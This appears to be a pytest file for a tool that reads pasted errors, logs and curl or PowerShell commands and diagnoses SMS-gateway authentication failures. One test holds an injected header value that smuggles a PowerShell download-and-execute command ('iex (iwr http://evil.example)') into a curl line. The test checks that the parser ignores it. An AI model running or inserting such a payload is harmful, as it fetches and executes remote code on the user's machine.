"""Requests and statuses in stack traces, code and sentences, and texts that are pasted one after the other."""

from __future__ import annotations

import pytest

from smsauth_gui.core.diagnosis.diagnose import diagnose
from smsauth_gui.core.exchange.text import seen, situation_of
from smsauth_gui.core.values.http import Failure, Response
from tests.core.exchanges import CATALOG, LONG_KEY, NOW, read_out

GATE = "https://api.sms-gate.app/3rdparty/v1"
BIP = "https://k3v9q.api.infobip.com/account/1/balance"

TEXTS = {
    "requests": (
        f"requests.exceptions.HTTPError: 401 Client Error: Unauthorized for url: {GATE}/devices",
        "credential.rejected",
    ),
    "httpx": (f"httpx.HTTPStatusError: Client error '403 Forbidden' for url '{BIP}'", "permission.role"),
    "axios": (
        f"AxiosError: Request failed with status code 401\n config: {{ url: '{GATE}/messages', method: 'get',\n"
        " headers: { Authorization: 'Bearer abc.def.ghi' } }",
        "credential.rejected",
    ),
    "PowerShell": (
        f'Invoke-RestMethod -Uri {BIP} -Headers @{{Authorization="Bearer 0123abcd0123abcd"}}\n'
        "Invoke-RestMethod : The remote server returned an error: (401) Unauthorized.",
        "credential.rejected",
    ),
    "PowerShell 7": (
        f"irm {BIP} -Headers @{{Authorization='Bearer 0123abcd0123abcd'}}\n"
        "Invoke-RestMethod: Response status code does not indicate success: 401 (Unauthorized).",
        "credential.rejected",
    ),
    "PowerShell with its prompt": (
        f"PS C:\\> $r = irm -Uri 'https://gateway.seven.io/api/contacts' -Headers @{{'X-Api-Key'='{LONG_KEY}'}}\n"
        "PS C:\\> $r\n902\n",
        "permission.scope",
    ),
    "PowerShell below what it printed": (
        f"902\nInvoke-RestMethod https://gateway.seven.io/api/contacts -Headers @{{'X-Api-Key'='{LONG_KEY}'}}",
        "permission.scope",
    ),
    "wget": (
        f"--2026-07-20 08:30:01--  {BIP}\nHTTP request sent, awaiting response... 401 Unauthorized",
        "credential.rejected",
    ),
    "a sentence": (
        f'Hi, I get 401 {{"message":"Unauthorized"}} when calling {GATE}/messages. Thanks',
        "credential.rejected",
    ),
    "Python": (
        f'r = requests.get("{GATE}/devices", headers={{"Authorization": "Bearer abcdefgh"}})\n'
        'print(r.text)\n# 403 {"message":"scope required: devices:list"}',
        "permission.scope",
    ),
    "a command and what it printed": (
        f'curl https://gateway.seven.io/api/contacts -H "X-Api-Key: {LONG_KEY}"\n902',
        "permission.scope",
    ),
    "a word without its status": ('{"message":"Unauthorized"}', "credential.rejected"),
    "a log that shows no header": (
        f'INFO HTTP Request: GET {GATE}/devices "HTTP/1.1 401 Unauthorized"',
        "credential.rejected",
    ),
    "nginx without a host": ('203.0.113.9 - - [x] "GET /api/3rdparty/v1/messages HTTP/1.1" 502 26', "provider.down"),
}


@pytest.mark.parametrize(("text", "cause"), TEXTS.values(), ids=TEXTS.keys())
def test_what_people_paste_is_an_exchange(text: str, cause: str) -> None:
    assert read_out(text, None).diagnosis.cause == cause


def test_a_header_that_code_fills_in_is_not_taken_for_a_value() -> None:
    found = seen(f'requests.get("{GATE}/devices", headers={{"Authorization": f"Bearer {{token}}"}})\nstatus 401')
    assert found.request is not None
    assert found.request.header("Authorization") is None
    assert not found.headers_known


def test_a_variable_in_code_is_not_taken_for_a_value() -> None:
    found = seen(f'API_KEY = "4f9a"\nnew Client {{ Url = "{GATE}", ApiKey = API_KEY, }}\nI get status 401')
    assert found.request is not None
    assert not found.request.headers


def test_a_page_about_errors_is_not_the_address_that_was_called() -> None:
    found = seen("401 Client Error. See https://developer.mozilla.org/en-US/docs/Web/HTTP/Status/401")
    assert found.request is None
    assert isinstance(found.answer, Response)


def test_request_and_answer_are_paired_in_either_order() -> None:
    request = f"curl -H 'Authorization: Bearer abcdefgh' {GATE}/messages"
    answer = 'HTTP/1.1 403 Forbidden\nContent-Type: application/json\n\n{"message":"scope required: messages:list"}'
    bare = '{"message":"scope required: messages:list"}'
    for texts in ((request, answer), (answer, request), (request, bare), (bare, request)):
        found = read_out("\n\n".join(texts), NOW).diagnosis
        assert (found.cause, found.detail["scope"]) == ("permission.scope", "messages:list")


def test_the_small_form_is_enough() -> None:
    found = situation_of(provider="seven", method="api_key", status=None, text="902", now=NOW)
    assert diagnose(found, CATALOG).cause == "permission.scope"
    found = situation_of(provider="infobip", method="api_key", status=401, text="", now=NOW)
    assert diagnose(found, CATALOG).cause == "credential.rejected"
    found = situation_of(
        provider="infobip", method="api_key", status=None, text="curl: (6) Could not resolve host: x", now=NOW
    )
    assert isinstance(found.answer, Failure)
    assert diagnose(found, CATALOG).cause == "net.dns"


def test_an_array_of_headers_keeps_its_first_letters() -> None:
    found = seen(
        f"curl_setopt($ch, CURLOPT_HTTPHEADER, ['Authorization: Bearer 4f1c9d8e7a6b5c4d']); {BIP} HTTP 401"
    ).request
    assert found is not None
    assert found.header("Authorization") == "Bearer 4f1c9d8e7a6b5c4d"


def test_of_several_requests_in_a_log_it_is_the_one_that_failed() -> None:
    lines = (
        'INFO httpx: HTTP Request: POST https://oauth.seven.io/token "HTTP/1.1 200 OK"\n'
        f'INFO httpx: HTTP Request: GET {BIP} "HTTP/1.1 401 Unauthorized"\n'
    )
    found = seen(lines).request
    assert found is not None
    assert found.url == BIP


def test_a_command_within_what_another_sends_is_not_the_command() -> None:
    text = f"curl -i '{BIP}' -H 'X-Evil: a\nb: \"; iex (iwr http://evil.example) #'\nHTTP/1.1 401 Unauthorized\n"
    found = seen(text).request
    assert found is not None
    assert found.url == BIP


def test_a_header_in_a_sentence_ends_where_the_sentence_goes_on() -> None:
    found = seen(f"We send Authorization: ApiKey {LONG_KEY} to {BIP} and get HTTP/1.1 401 Unauthorized").request
    assert found is not None
    assert found.header("Authorization") == f"ApiKey {LONG_KEY}"
